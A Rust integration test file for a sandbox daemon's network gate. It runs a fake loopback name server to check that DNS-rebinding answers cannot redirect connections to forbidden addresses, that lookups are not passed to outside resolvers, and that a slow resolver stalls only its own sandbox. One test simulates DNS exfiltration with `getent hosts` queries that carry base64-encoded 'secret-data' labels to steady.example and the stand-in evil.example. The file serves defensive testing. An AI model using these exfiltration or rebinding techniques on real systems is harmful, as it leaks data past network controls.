//! Names whose addresses change, and what name servers get to hear. The daemon is started with a name
//! server of the test's own, which only root can do; the rules themselves are tested in the gate's crate.

use std::collections::HashMap;
use std::net::UdpSocket;
use std::sync::atomic::{AtomicU8, Ordering};
use std::sync::{Arc, Mutex};
use std::thread;

use serde_json::{Value, json};

use crate::harness::{TestDaemon, until};
use crate::servers::{NAMES, Server, allow, has, python};

/// For each name its answers, one after the other.
type Answers = Arc<Mutex<HashMap<String, Vec<Vec<[u8; 4]>>>>>;

/// A name server that answers for some names, each time with the next of its answers, and never for others.
struct NameServer {
    address: String,
    answers: Answers,
    asked: Arc<Mutex<Vec<String>>>,
}

impl NameServer {
    /// On an address of its own of this machine's loopback.
    fn start() -> Option<Self> {
        static STARTED: AtomicU8 = AtomicU8::new(0);
        let (own, turn) = (std::process::id().to_be_bytes(), STARTED.fetch_add(1, Ordering::Relaxed));
        let address =
            format!("127.{}.{}.{}", 100 + 50 * (turn % 2) + own[1] % 50, own[2], own[3].clamp(1, 254));
        let socket = UdpSocket::bind((address.as_str(), 53)).ok()?;
        let answers = Answers::default();
        let asked: Arc<Mutex<Vec<String>>> = Arc::default();
        let (known, told) = (Arc::clone(&answers), Arc::clone(&asked));
        thread::spawn(move || {
            let mut packet = [0; 1500];
            while let Ok((length, from)) = socket.recv_from(&mut packet) {
                let Some((name, end)) = question(&packet[..length]) else { continue };
                let wants_four = packet[end - 3] == 1;
                told.lock().unwrap().push(name.clone());
                let addresses = {
                    let mut known = known.lock().unwrap();
                    let Some(answers) = known.get_mut(&name) else { continue };
                    match (wants_four, answers.len()) {
                        (false, _) => Vec::new(),
                        (true, 1) => answers[0].clone(),
                        (true, _) => answers.remove(0),
                    }
                };
                socket.send_to(&answer(&packet[..end], &addresses), from).ok();
            }
        });
        Some(Self { address, answers, asked })
    }

    fn answer(&self, name: &str, answers: &[&[[u8; 4]]]) {
        let answers = answers.iter().map(|one| one.to_vec()).collect();
        self.answers.lock().unwrap().insert(name.to_owned(), answers);
    }

    fn asked(&self, name: &str) -> usize {
        self.asked.lock().unwrap().iter().filter(|one| one.contains(name)).count()
    }
}

/// The name of a question, and where the question ends.
fn question(packet: &[u8]) -> Option<(String, usize)> {
    let mut labels = Vec::new();
    let mut at = 12;
    loop {
        let length = usize::from(*packet.get(at)?);
        at += 1;
        if length == 0 {
            return Some((labels.join("."), at + 4));
        }
        labels.push(String::from_utf8_lossy(packet.get(at..at + length)?).to_ascii_lowercase());
        at += length;
    }
}

fn answer(question: &[u8], addresses: &[[u8; 4]]) -> Vec<u8> {
    let mut packet = question.to_vec();
    packet[2..12].copy_from_slice(&[0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0]);
    packet[7] = u8::try_from(addresses.len()).unwrap();
    for address in addresses {
        // Nobody is to remember it.
        packet.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4]);
        packet.extend(address);
    }
    packet
}

/// A name server of the test, and a daemon that asks it, which only root can arrange.
fn ground() -> Option<(NameServer, TestDaemon)> {
    if !rustix::process::geteuid().is_root() {
        println!("skipped: only root can give a daemon a name server of its own");
        return None;
    }
    let names = NameServer::start().unwrap();
    let mut daemon = TestDaemon::start_configured(NAMES, &[]);
    let settings = daemon.home().write("resolv.conf", &format!("nameserver {}\n", names.address));
    let switch = daemon.home().write("nsswitch.conf", "hosts: files dns\n");
    daemon.terminate();
    daemon.launch_by(&format!(
        "exec unshare --mount --propagation private -- sh -c 'mount --bind {} /etc/resolv.conf && mount --bind {} /etc/nsswitch.conf && exec \"$@\"' sh \"$@\"",
        settings.display(),
        switch.display()
    ));
    has(&daemon, "python3").then_some((names, daemon))
}

/// Connects to each of several names in turn and says what was heard.
const REACH: &str = r#"
import json, socket, sys
heard = []
for name in sys.argv[2:]:
    try: heard.append(socket.create_connection((name, int(sys.argv[1])), 60).recv(64).decode())
    except OSError as error: heard.append(type(error).__name__)
print(json.dumps(heard))"#;

#[test]
fn an_address_is_asked_for_once_checked_and_dialed_and_a_name_cannot_change_it() {
    let Some((names, daemon)) = ground() else { return };
    let inside = Server::saying("127.0.0.1:0", "inside");
    let port = inside.port;
    let _outside = Server::saying(&format!("127.0.0.2:{port}"), "outside");
    let (well, evil) = ([127, 0, 0, 2], [127, 0, 0, 1]);
    names.answer("rebind.example", &[&[well], &[evil]]);
    names.answer("mixed.example", &[&[well, evil]]);
    names.answer("steady.example", &[&[well]]);
    let granted = ["rebind", "mixed", "steady", "slow"].map(|name| format!("{name}.example:{port}"));
    allow(&daemon, "box", &granted);
    allow(&daemon, "box", &[format!("127.0.0.2:{port}")]);
    let reach = |names: &[&str]| {
        let mut arguments = vec![port.to_string()];
        arguments.extend(names.iter().map(|name| format!("{name}.example")));
        let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
        python(&daemon, "box", REACH, &arguments)
    };
    // The first answer is good, and dialed; the second one is checked like the first.
    let heard = reach(&["rebind", "rebind", "rebind", "mixed", "steady"]);
    let expected =
        json!(["outside", "ConnectionResetError", "ConnectionResetError", "ConnectionResetError", "outside"]);
    let denied = |answer: &Value| answer.as_str().unwrap().is_empty() || answer == "ConnectionResetError";
    for (answer, expected) in heard.as_array().unwrap().iter().zip(expected.as_array().unwrap()) {
        assert!(answer == expected || (denied(answer) && denied(expected)), "{heard}");
    }
    assert_eq!(inside.heard().len(), 1, "only its own words: nobody connected");
    // Once for each kind of address and connection: what was checked is not asked for again.
    assert_eq!(names.asked("rebind.example"), 6);
    let net = daemon.get("/v1/sandboxes/box/net").to_string();
    assert!(net.contains("forbidden_address"), "{net}");
    // Looking a granted name up inside asks nobody outside, and one that is not granted never does.
    let before = names.asked("");
    daemon.shell("box", "getent hosts steady.example; getent hosts c2VjcmV0LWRhdGE.steady.example || true");
    daemon.shell("box", "getent hosts c2VjcmV0LWRhdGE.evil.example || true; getent hosts c2VjcmV0 || true");
    assert_eq!(names.asked(""), before, "{:?}", names.asked.lock());
    // Where the address is granted too, the same name leads there.
    allow(&daemon, "box", &[format!("127.0.0.1:{port}")]);
    assert_eq!(reach(&["rebind"]), json!(["inside"]));
}

#[test]
fn names_whose_servers_are_slow_hold_up_only_the_sandbox_that_asks() {
    let Some((names, daemon)) = ground() else { return };
    let server = Server::saying("127.0.0.1:0", "well");
    let port = server.port;
    names.answer("steady.example", &[&[[127, 0, 0, 1]]]);
    allow(&daemon, "slow", &[format!("*.slow.example:{port}")]);
    allow(&daemon, "quick", &[format!("steady.example:{port}"), format!("127.0.0.1:{port}")]);
    // Each of these waits for an answer that never comes.
    let hold = format!(
        "import socket, time\nheld = []\n\
         for number in range(200):\n\
         \u{20} stream = socket.socket(); stream.setblocking(False); held.append(stream)\n\
         \u{20} stream.connect_ex((socket.gethostbyname(f'n{{number}}.slow.example'), {port}))\n\
         open('held', 'w'); time.sleep(600)"
    );
    let job = daemon.exec("slow", json!({ "argv": ["python3", "-c", hold], "wait": "0s" }));
    until("they wait", || daemon.shell("slow", "ls").contains("held") && names.asked("slow.example") >= 8);
    for _ in 0..3 {
        let heard = python(&daemon, "quick", REACH, &[&port.to_string(), "steady.example"]);
        assert_eq!(heard, json!(["well"]));
    }
    daemon.post(&format!("/v1/runs/{}/kill", job["run_id"].as_str().unwrap()), json!({}));
}
